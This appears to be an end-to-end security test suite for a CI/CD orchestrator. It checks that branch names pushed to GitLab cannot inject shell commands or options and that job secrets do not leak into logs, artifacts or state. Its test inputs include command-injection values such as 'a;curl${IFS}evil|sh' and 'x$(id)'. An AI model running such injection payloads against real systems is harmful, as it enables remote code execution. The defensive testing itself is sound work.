"""Names of branches that attack: each closes the loop with its own commit, or is refused and nothing has happened.

All names of the collection that git takes are pushed to one GitLab, to one project that was applied once, and their
pipelines run as real jobs. Names that git does not take, which only an overridden variable can bring, go as real
processes to the stages, one stage after the other in turn; that all stages have the same door is shown by
`tests/security/test_threats.py`. One name that is odd and allowed is built by CodeBuild as well; the others are
packaged in the job.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import time
import uuid
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import Shop, open_shop

from orchestrator import resources
from orchestrator.config.refs import PUNCTUATION
from orchestrator.effects.gitlab import GitLabPipelines, JobRecord, PipelineRecord
from orchestrator.emulator.control import Running
from orchestrator.redaction import spellings

pytestmark = pytest.mark.e2e
DATA = Path(os.environ.get("ORCHESTRATOR_SHARED_DATA") or Path(__file__).resolve().parents[3] / "shared" / "data")
OWN = ("x;id", "a;curl${IFS}evil|sh", "x$(id)", "prod/db,type=SECRETS_MANAGER", "release/2024.01", "дом/ключ", "v1.2")
# A refusal of everything would be safe as well, and of no use.
ORDINARY = {"feature/a", "feature-a", "Feature/A", "a+b", "a@b", "release/2024.01", "дом/ключ", "v1.2"}
ODD = "größe/日本+1@x"
CANARY = "canary-of-the-variable-that-a-name-asks-for"
PIPELINE = """
stages: [prebuild, build, postbuild]
include:
  - local: templates/plain.gitlab-ci.yml
build:
  script:
    - orchestrator build --package parser
"""
ENDED = {2, 4, 5}


def names() -> list[str]:
    """Return the names of the collection, spelled out, and some of our own."""
    path = DATA / "refs.tsv"
    if not path.is_file():
        assert os.environ.get("CI") != "true", f"{path} is missing"
        return list(OWN)
    with path.open(encoding="utf-8", newline="") as file:
        read = [row["ref"] for row in csv.DictReader(file, delimiter="\t")]
    told = [name.encode("latin-1", "backslashreplace").decode("unicode_escape") for name in read]
    return [name for name in dict.fromkeys([*told, *OWN]) if name != "main"]


@dataclass
class Pushed:
    """The project, and which commit each name was pushed with; `refused` are those that git did not take."""

    shop: Shop
    commits: dict[str, str]
    refused: list[str]


@pytest.fixture(scope="module")
def pushed(emulator: Running, provider: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pushed]:
    """Return a project that was applied once, with a branch and a pipeline for every name that git takes."""
    shop = open_shop(emulator, tmp_path_factory.mktemp("refs"), f"refs-{uuid.uuid4().hex[:8]}", provider)
    for key in ("GITLAB_PAT", "DEPLOY_TOKEN"):
        shop.project.variables.create({"key": key, "value": CANARY})
    template = (resources.folder("templates") / "plain.gitlab-ci.yml").read_text(encoding="utf-8")
    text = shop.files()["orchestrator.yml"].replace("timeout_minutes: 5", "timeout_minutes: 5, where: auto")
    text += "  built:\n    source: src\n    build: {timeout_minutes: 5}\n"
    files = {**shop.files(), "orchestrator.yml": text, "templates/plain.gitlab-ci.yml": template}
    shop.commit(files)
    applied = shop.orchestrator("prebuild")
    assert applied.returncode == 0, applied.stderr
    shop.commit({".gitlab-ci.yml": PIPELINE}, "with jobs [ci skip]")
    tree = shop.git("rev-parse", "HEAD^{tree}")
    address = shop.running.gitlab_url.replace("://", f"://oauth2:{shop.running.gitlab_token}@")
    made = Pushed(shop, {}, [])
    for number, name in enumerate(names()):
        commit = shop.git("commit-tree", tree, "-p", "HEAD", "-m", f"number {number}")
        try:
            shop.git(
                "push", "--quiet", f"{address}/{shop.project.path_with_namespace}.git", f"{commit}:refs/heads/{name}"
            )
        except (subprocess.CalledProcessError, OSError):
            made.refused.append(name)
        else:
            made.commits[name] = commit
    yield made


@pytest.fixture(scope="module")
def ended(pushed: Pushed) -> dict[str, list[PipelineRecord]]:
    """Return the pipelines of each commit when none goes on."""
    pipelines = connection(pushed.shop)
    deadline = time.monotonic() + 400
    while time.monotonic() < deadline:
        found: dict[str, list[PipelineRecord]] = {}
        for item in pipelines.pipelines():
            found.setdefault(item.sha, []).append(item)
        # The second pipeline of a package that was made in the job exists before the first one ends.
        if all(item.ended for items in found.values() for item in items):
            return found
        time.sleep(0.5)
    raise AssertionError("some pipelines go on")


def connection(shop: Shop) -> GitLabPipelines:
    """Return the pipelines of the project."""
    return GitLabPipelines(shop.running.gitlab_url, str(shop.project.id), shop.running.gitlab_token)


def judged(name: str, code: int, said: str) -> None:
    """Check one refusal: its exit code, and a message in which nothing of the name acts on a screen."""
    told = said[said.index("error: ") :]
    assert code in ENDED, said
    assert "Traceback" not in said
    assert "orchestrator-bug" not in said
    assert all(c in "\n\t\r\x1b" or c.isprintable() for c in told), ascii(told)
    first = next((c for c in name if not (c.isalnum() and c.isascii()) and c not in PUNCTUATION), None)
    if first is not None and not first.isalnum():
        shown = first.isascii() and first.isprintable()
        escaped = {f"'{first}'", f'"{first}"'} if shown else {f"U+{ord(first):04X}"}
        assert any(form in told for form in escaped), told


def test_every_name_comes_home_with_its_commit_or_is_refused(
    pushed: Pushed, ended: dict[str, list[PipelineRecord]]
) -> None:
    """No name of a branch becomes a shell, an option, another variable or another commit, on the way out or home."""
    pipelines = connection(pushed.shop)
    home = set()
    for name, commit in pushed.commits.items():
        jobs = {job.name: job for item in ended[commit] for job in pipelines.jobs(item.id)}
        traces = {job.name: pipelines.trace(job.id) for job in jobs.values() if job.status in {"success", "failed"}}
        for trace in traces.values():
            assert "uid=" not in trace
            assert CANARY not in trace
        if [item.status for item in ended[commit]] == ["success", "success"]:
            manifest = json.loads(pipelines.artifact(jobs["postbuild"].id, "manifest.json"))
            assert (manifest["commit"], manifest["package"]) == (commit, "parser")
            # Nothing of the name is in it; digits of a commit or an id may spell a short one.
            key = rf"assembled/{re.escape(pushed.shop.name)}-parser/{commit}/[0-9a-f-]{{36}}/package\.zip"
            assert re.fullmatch(key, manifest["key"])
            home.add(name)
        else:
            assert len(ended[commit]) == 1, name
            assert set(traces) == {"prebuild"}, (name, traces)
            code = re.search(r"exit code (\d+)", traces["prebuild"])
            assert code is not None, traces["prebuild"]
            judged(name, int(code[1]), traces["prebuild"])
    assert home >= ORDINARY & set(pushed.commits)
    assert not any(check for check in (set("|&;<>()$`\\\"' \t\n*?[]#~=%!{}^,:") & set("".join(home))))
    assert pushed.shop.aws("codebuild").list_builds_for_project(projectName=f"{pushed.shop.name}-parser")["ids"] == []


def test_names_that_only_a_variable_can_bring_are_refused(pushed: Pushed) -> None:
    """What git does not take, an overridden CI_COMMIT_REF_NAME may hold; the stages refuse it."""
    build_id = f"{pushed.shop.name}-parser:{uuid.uuid4()}"
    stages = (["prebuild"], ["build"], ["postbuild", "--build-id", build_id])
    assert len(pushed.refused) > 10 or not (DATA / "refs.tsv").is_file()

    def refused(number: int, name: str) -> None:
        outcome = pushed.shop.orchestrator(*stages[number % len(stages)], CI_COMMIT_REF_NAME=name)
        judged(name, outcome.returncode, outcome.stderr)
        assert outcome.stdout == ""

    with ThreadPoolExecutor(2) as several:
        list(several.map(refused, range(len(pushed.refused)), pushed.refused))
    assert pushed.shop.aws("codebuild").list_builds_for_project(projectName=f"{pushed.shop.name}-parser")["ids"] == []


def test_no_secret_of_the_jobs_is_in_anything_they_left(pushed: Pushed, ended: dict[str, list[PipelineRecord]]) -> None:
    """T14, T15: logs, artifacts, packages, documents, the state of Terraform: none holds a secret of a job."""
    shop, emulator = pushed.shop, pushed.shop.running.directory
    assert ended
    left = {str(path.relative_to(emulator)): path.read_bytes() for path in emulator.rglob("*") if path.is_file()}
    left |= {str(path): path.read_bytes() for path in shop.folder.rglob("*") if path.is_file()}
    s3 = shop.aws("s3")
    left |= {key: s3.get_object(Bucket=shop.bucket, Key=key)["Body"].read() for key in shop.keys("")}
    assert any(name.endswith(".tfstate") for name in left)
    forms = [form.encode() for form in spellings(CANARY)]
    holding = {name for name, content in left.items() if any(form in _opened(content) for form in forms)}
    # GitLab itself keeps the variable in the settings of the project.
    (settings,) = holding
    assert re.fullmatch(r"gitlab/state/projects/[0-9]+\.json", settings)


def _opened(content: bytes) -> bytes:
    """Return bytes, and with those of a zip what its members hold."""
    if not zipfile.is_zipfile(io.BytesIO(content)):
        return content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return content + b"".join(_opened(archive.read(name)) for name in archive.namelist())


def test_an_odd_name_is_built_by_codebuild_and_comes_home(pushed: Pushed) -> None:
    """A name of letters of three scripts, a slash, `+` and `@` goes through StartBuild, the build and the trigger."""
    shop = pushed.shop
    shop.git("checkout", "--quiet", "-B", "odd")
    commit = shop.commit({"odd.txt": ODD}, "odd [ci skip]")
    address = shop.running.gitlab_url.replace("://", f"://oauth2:{shop.running.gitlab_token}@")
    shop.git("push", "--quiet", f"{address}/{shop.project.path_with_namespace}.git", f"{commit}:refs/heads/{ODD}")
    outcome = shop.orchestrator("build", "--package", "built", "--ref", ODD)
    assert outcome.returncode == 0, outcome.stderr
    pipelines = connection(shop)
    deadline = time.monotonic() + 120
    found: list[PipelineRecord] = []
    while time.monotonic() < deadline and not (found and all(item.ended for item in found)):
        time.sleep(0.5)
        found = [item for item in pipelines.pipelines() if (item.sha, item.source) == (commit, "trigger")]
    jobs: dict[str, JobRecord] = {job.name: job for item in found for job in pipelines.jobs(item.id)}
    assert jobs["postbuild"].status == "success", pipelines.trace(jobs["postbuild"].id)
    manifest = json.loads(pipelines.artifact(jobs["postbuild"].id, "manifest.json"))
    assert (manifest["commit"], manifest["build_id"]) == (commit, shop.build_id())
    (build,) = shop.aws("codebuild").batch_get_builds(ids=[shop.build_id()])["builds"]
    sent = {item["name"]: item for item in build["environment"]["environmentVariables"]}
    assert sent["ORCHESTRATOR_REF"]["value"] == ODD
    assert {item["type"] for item in sent.values()} == {"PLAINTEXT"}
